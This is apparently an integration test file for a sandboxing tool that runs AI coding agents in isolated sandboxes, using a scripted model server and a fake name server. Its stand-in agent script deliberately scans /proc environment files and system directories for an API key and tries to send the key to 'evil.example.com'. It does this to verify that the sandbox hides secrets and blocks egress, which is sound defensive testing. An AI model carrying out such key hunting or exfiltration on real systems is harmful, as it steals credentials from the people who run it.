"""``sandling agent --engine``: command lines in real sandboxes, and a scripted model behind TLS.

engines.py SANDLING [CASE...]

Runs in its own network namespace without external access, where every address is local. The real command lines are
those of the template ``agent``.
"""

from __future__ import annotations

import json
import os
import re
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Dict, Iterator, List, NamedTuple, Tuple

HERE = Path(__file__).resolve()
sys.path.insert(0, str(HERE.parents[2] / "sdk" / "python" / "tests" / "frameworks"))
from model_server import ModelServer, Script, Turn, strings  # noqa: E402

SANDLING = sys.argv[1]
KEY = "key-that-no-guest-may-see"
HOST = "api.example.com"
#: Any public address; all of them are local here.
ADDRESS = "93.184.216.34"
NAME_SERVER = ("127.0.0.1", 5300)
INSIDE = "SANDLING_ENGINES_NAMESPACE"

#: An example command line: it asks the model, changes the project and reports. It also searches for the key, which it
#: gets with its letters reversed, and for another way out.
STAND_IN = """
import json, os, pathlib, sys, urllib.request

def ask(url, key):
    body = json.dumps({"model": os.environ["ANTHROPIC_MODEL"], "messages": [{"role": "user", "content": sys.argv[-1]}]})
    headers = {"content-type": "application/json", "x-api-key": key}
    request = urllib.request.Request(f"{url}/v1/messages", body.encode(), headers)
    return json.load(urllib.request.urlopen(request, timeout=60))["content"][0]["text"]

key = os.environ["ANTHROPIC_API_KEY"]
said = ask(os.environ["ANTHROPIC_BASE_URL"], key)
print("working", file=sys.stderr)
pathlib.Path("add.py").write_text(f"def add(a, b):\\n    return a {said} b\\n")
wanted = "REVERSED"[::-1].encode()
places = [*pathlib.Path("/proc").glob("[0-9]*/environ"), *pathlib.Path("/proc").glob("[0-9]*/cmdline")]
for top in ("/workspace", "/tmp", "/run", "/etc", "/root", "/home", "/var"):
    places += [path for path in pathlib.Path(top).rglob("*") if path.is_file() and not path.is_symlink()]
for place in places:
    try:
        assert wanted not in place.read_bytes(), place
    except OSError:
        pass
assert key.encode() != wanted
try:
    ask("https://evil.example.com", key)
    print("got out")
except OSError:
    pass
print("It is", said)
"""


class Ran(NamedTuple):
    code: int
    stdout: str
    stderr: str
    lines: List[Dict[str, Any]]


class World:
    """A name server, certificates, a Sandling server, and one model at a time."""

    def __init__(self, scratch: Path) -> None:
        self.scratch = scratch
        self.environment = {
            name: value
            for name, value in os.environ.items()
            if not name.startswith(("ANTHROPIC", "OPENAI", "SANDLING_API", "SANDLING_TOKEN"))
        }
        self.environment["SANDLING_HOME"] = str(scratch / "home")
        if "SANDLING_TEST_TEMPLATES" in os.environ:
            self.environment["SANDLING_TEMPLATES"] = os.environ["SANDLING_TEST_TEMPLATES"]
        self.tls = self._certificates()
        threading.Thread(target=answer_names, daemon=True).start()
        self.server = self._serve()

    def _certificates(self) -> ssl.SSLContext:
        authority, key, leaf = (self.scratch / name for name in ("authority.pem", "key.pem", "leaf.pem"))
        made = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
        dates = ["-days", "2", "-keyout", str(key)]
        subprocess.run(
            [*made, *dates, "-out", str(authority), "-subj", "/CN=authority"], check=True, capture_output=True
        )
        (self.scratch / "authority.key").write_bytes(key.read_bytes())
        signed = ["-CA", str(authority), "-CAkey", str(self.scratch / "authority.key"), "-subj", f"/CN={HOST}"]
        names = ["-addext", f"subjectAltName=DNS:{HOST},DNS:evil.example.com", "-addext", "basicConstraints=CA:FALSE"]
        subprocess.run([*made, *dates, "-out", str(leaf), *signed, *names], check=True, capture_output=True)
        self.environment["SSL_CERT_FILE"] = str(authority)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(leaf, key)
        return context

    def _serve(self) -> subprocess.Popen[bytes]:
        address = ":".join(map(str, NAME_SERVER))
        command = [SANDLING, "serve", "--listen", "127.0.0.1:0", "--standbys", "0", "--name-server", address]
        log = (self.scratch / "server.log").open("wb")
        server = subprocess.Popen(command, env=self.environment, stdout=log, stderr=log)
        known = self.scratch / "home" / "server"
        for _ in range(600):
            if known.exists() and known.read_text().strip():
                return server
            assert server.poll() is None, (self.scratch / "server.log").read_text()
            time.sleep(0.05)
        raise AssertionError("the server never said where it is")

    def sandling(self, *arguments: str) -> str:
        ran = subprocess.run([SANDLING, *arguments], env=self.environment, capture_output=True, text=True, timeout=120)
        assert ran.returncode == 0, ran
        return ran.stdout

    def agent(self, *arguments: str, api: str = "anthropic", within: float = 240) -> Ran:
        environment = dict(self.environment)
        if api == "anthropic":
            environment.update(ANTHROPIC_API_KEY=KEY, ANTHROPIC_BASE_URL=f"https://{HOST}", ANTHROPIC_MODEL="scripted")
        else:
            environment.update(OPENAI_API_KEY=KEY, OPENAI_BASE_URL=f"https://{HOST}/v1", OPENAI_MODEL="scripted")
        transcript = self.scratch / "transcript.jsonl"
        command = [SANDLING, "agent", "--transcript", str(transcript), *arguments]
        ran = subprocess.run(
            command, env=environment, capture_output=True, text=True, timeout=within, stdin=subprocess.DEVNULL
        )
        text = transcript.read_text()
        assert KEY not in text + ran.stdout + ran.stderr, "the key was told"
        assert json.loads(self.sandling("ls", "--json")) == [], "a sandbox was left behind"
        assert json.loads(self.sandling("secret", "ls", "--json")) == [], "the key was left behind"
        return Ran(ran.returncode, ran.stdout, ran.stderr, [json.loads(line) for line in text.splitlines()])

    @contextmanager
    def model(self, script: Script) -> Iterator[ModelServer]:
        server = ModelServer(script, ("0.0.0.0", 443), self.tls)
        try:
            yield server
        finally:
            server.close()

    def close(self) -> None:
        self.server.terminate()
        assert self.server.wait(60) == 0, (self.scratch / "server.log").read_text()


def answer_names() -> None:
    """A name server that answers every query with the same address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(NAME_SERVER)
        while True:
            asked, sender = server.recvfrom(2048)
            end = asked.index(b"\0", 12) + 5
            is_address = asked[end - 4 : end - 2] == b"\0\1"
            head = asked[:2] + b"\x81\x80\0\1" + (b"\0\1" if is_address else b"\0\0") + b"\0\0\0\0"
            record = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(ADDRESS)
            server.sendto(head + asked[12:end] + (record if is_address else b""), sender)


@contextmanager
def project() -> Iterator[Path]:
    with tempfile.TemporaryDirectory() as scratch:
        directory = Path(scratch)
        (directory / "add.py").write_text("def add(a, b):\n    return a - b\n")
        (directory / "agent.py").write_text(STAND_IN.replace("REVERSED", KEY[::-1]))
        yield directory


def a_command_line_works_with_a_key_that_it_never_has(world: World) -> None:
    with project() as directory, world.model(["+"]) as model:
        arguments = [
            "--template",
            "base",
            "--engine",
            "python3 agent.py",
            "--files",
            str(directory),
            "--apply",
            "--yes",
        ]
        ran = world.agent(*arguments, "Mend it.")
        assert ran.code == 0 and ran.stdout == "It is +\n", ran
        assert model.keys == [KEY], model.keys
        assert "Mend it." in strings(model.requests[0]) and model.requests[0]["model"] == "scripted", model.requests
        assert "working" in ran.stderr, "what it prints is shown"
        assert (directory / "add.py").read_text() == "def add(a, b):\n    return a + b\n"
        kinds = [line["type"] for line in ran.lines]
        assert kinds[0] == "start" and kinds[-1] == "end" and "output" in kinds, kinds
        assert (ran.lines[0]["engine"], ran.lines[-1]["exit_code"]) == ("python3 agent.py", 0), ran.lines


def the_best_of_two_command_lines_is_taken(world: World) -> None:
    def attempts(body: Dict[str, Any], number: int) -> Turn:
        return "+" if "attempt 2 of 2" in strings(body) else "*"

    with project() as directory, world.model(attempts) as model:
        check = "python3 -c 'from add import add; assert add(2, 3) == 5'"
        arguments = ["--files", str(directory), "--apply", "--yes", "--best-of", "2", "--check", check]
        ran = world.agent("--template", "base", "--engine", "python3 agent.py", *arguments, "Mend it.")
        assert ran.code == 0 and ran.stdout == "It is +\n", ran
        assert model.keys == [KEY, KEY], "forks may use the key, too"
        assert re.search(r"2 ◀\s+passed", ran.stderr), ran.stderr
        assert "a + b" in (directory / "add.py").read_text()


def one_that_fails_or_takes_too_long_is_ended(world: World) -> None:
    ran = world.agent("--template", "base", "--engine", "echo so far; exit 3 #", "x")
    assert ran.code == 1 and ran.stdout == "so far\n" and ran.lines[-1]["exit_code"] == 3, ran
    started = time.monotonic()
    ran = world.agent("--template", "base", "--max-time", "3s", "--engine", "sleep 300 #", "x")
    assert ran.code == 1 and "time" in ran.lines[-1]["why"] and time.monotonic() - started < 100, ran


def a_key_that_was_forgotten_is_removed(world: World) -> None:
    # A key as a killed run leaves it. The next `agent` must remove it.
    command = [SANDLING, "secret", "set", "AGENT_KEY_1_1000", "--host", HOST]
    subprocess.run(command, env=world.environment, input="old", text=True, check=True, timeout=60, capture_output=True)
    assert world.agent("--template", "base", "--engine", "true #", "x").code == 0


def a_key_is_not_sent_in_the_clear(world: World) -> None:
    environment = {**world.environment, "ANTHROPIC_API_KEY": KEY, "ANTHROPIC_BASE_URL": f"http://{HOST}"}
    command = [SANDLING, "agent", "--engine", "claude", "x"]
    ran = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60)
    assert ran.returncode == 2 and "https" in ran.stderr, ran


def claude(world: World) -> None:
    def script(body: Dict[str, Any], number: int) -> Turn:
        said = strings(body)
        if "tool_result" in said:
            return "The answer is 42."
        if any(tool.get("name") == "Bash" for tool in body.get("tools", [])):
            return [("Bash", {"command": "echo 42 >answer.txt", "description": "Writes it down"})]
        return "42"

    # It counts by itself. On a busy host it has been seen to report only one of its two requests.
    real(world, "claude", "anthropic", script, counted=[(20, 10), (10, 5)])


def codex(world: World) -> None:
    def script(body: Dict[str, Any], number: int) -> Turn:
        if "function_call_output" in strings(body):
            return "The answer is 42."
        names = [tool.get("name") for tool in body.get("tools", [])]
        if "exec_command" in names:
            return [("exec_command", {"cmd": "echo 42 >answer.txt"})]
        return [("shell_command", {"command": "echo 42 >answer.txt"})]

    real(world, "codex", "responses", script, counted=[(20, 10)])


def real(world: World, engine: str, api: str, script: Script, counted: List[Tuple[int, int]]) -> None:
    with project() as directory, world.model(script) as model:
        arguments = ["--engine", engine, "--files", str(directory), "--apply", "--yes", "--max-time", "9m"]
        ran = world.agent(*arguments, "Write the answer down.", api=api, within=600)
        assert ran.code == 0 and ran.stdout == "The answer is 42.\n", (ran, model.requests[-1:])
        kinds = [line["type"] for line in ran.lines]
        assert {"call", "result", "reply"} <= set(kinds), kinds
        assert (ran.lines[-1]["input_tokens"], ran.lines[-1]["output_tokens"]) in counted, ran.lines[-1]
        assert "echo 42 >answer.txt" in ran.stderr, "what it does is shown"
        assert (directory / "answer.txt").read_text() == "42\n", ran
        assert model.keys and all(key in (KEY, f"Bearer {KEY}") for key in model.keys), model.keys


CASES = [
    a_key_is_not_sent_in_the_clear,
    a_command_line_works_with_a_key_that_it_never_has,
    the_best_of_two_command_lines_is_taken,
    one_that_fails_or_takes_too_long_is_ended,
    a_key_that_was_forgotten_is_removed,
    claude,
    codex,
]


def enter() -> None:
    """Restarts this program in a namespace."""
    user = [] if os.geteuid() == 0 else ["--map-root-user"]
    ways = 'ip link set lo up && ip route add local 0.0.0.0/0 dev lo && exec "$@"'
    command = ["unshare", "--net", *user, "sh", "-c", ways, "sh", sys.executable, *sys.argv]
    os.execvpe(command[0], command, {**os.environ, INSIDE: "1"})


def main() -> int:
    if INSIDE not in os.environ:
        enter()
    wanted = sys.argv[2:]
    cases = [case for case in CASES if case.__name__ in wanted] if wanted else CASES
    failed = 0
    with tempfile.TemporaryDirectory() as scratch:
        world = World(Path(scratch))
        for case in cases:
            started = time.monotonic()
            try:
                case(world)
                print(f"passed   {case.__name__} ({time.monotonic() - started:.0f} s)", flush=True)
            except Exception:
                failed += 1
                traceback.print_exc()
                print(f"FAILED   {case.__name__}", flush=True)
        world.close()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
